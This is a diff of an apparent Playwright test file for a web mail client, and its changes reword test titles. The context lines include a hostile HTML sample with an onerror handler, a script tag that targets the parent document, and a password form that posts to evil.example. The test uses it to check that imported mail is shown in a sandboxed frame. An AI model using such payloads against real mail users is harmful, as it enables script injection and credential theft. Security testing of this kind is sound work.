@@ -13,7 +13,7 @@ const row = (page: Page, name: string) =>
 const reader = (page: Page) => page.getByRole("region", { name: "Reader" });
 const isTooWide = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
 
-test("MAIL-30, MAIL-31, decision 10: two people of one instance write to each other, live", async ({
+test("MAIL-30, MAIL-31, decision 10: two people of one instance exchange mail in real time", async ({
   page,
   ada,
   instance,
@@ -61,7 +61,7 @@ const HOSTILE = `<html><head><style>.big{color:#a00}</style></head><body><table>
   <img src="x" onerror="parent.document.title='caught'"><script>parent.document.title = "caught"</script>
   <form action="https://evil.example"><input name="password"></form></td></tr></table></body></html>`;
 
-test("MAIL-21: a mail is imported from a file, and its hostile HTML is shown in a frame that can do nothing", async ({
+test("MAIL-21: a message is imported from a file, and its hostile HTML is shown in a sandboxed frame", async ({
   page,
   ada,
 }) => {
@@ -97,7 +97,7 @@ test("MAIL-21: a mail is imported from a file, and its hostile HTML is shown in 
   expect(outside).toEqual([]);
 });
 
-test("on a phone nothing is wider than the screen, in both themes: cards, then the list and the reader; the palette finds mail", async ({
+test("on a phone nothing is wider than the screen, in both themes: cards, list and reader; the palette finds mail", async ({
   page,
   ada,
 }) => {
